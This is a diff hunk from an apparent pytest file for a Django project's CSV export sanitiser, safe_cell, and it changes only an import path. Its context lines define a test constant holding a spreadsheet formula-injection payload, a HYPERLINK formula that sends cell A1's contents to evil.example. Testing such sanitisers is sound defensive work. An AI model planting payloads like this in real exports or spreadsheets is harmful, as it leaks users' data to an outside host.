@@ -7,7 +7,7 @@ from decimal import Decimal
 import pytest
 from django.utils.translation import gettext_lazy
 
-from governance.csv_export import safe_cell
+from core.csv_export import safe_cell
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")'
 
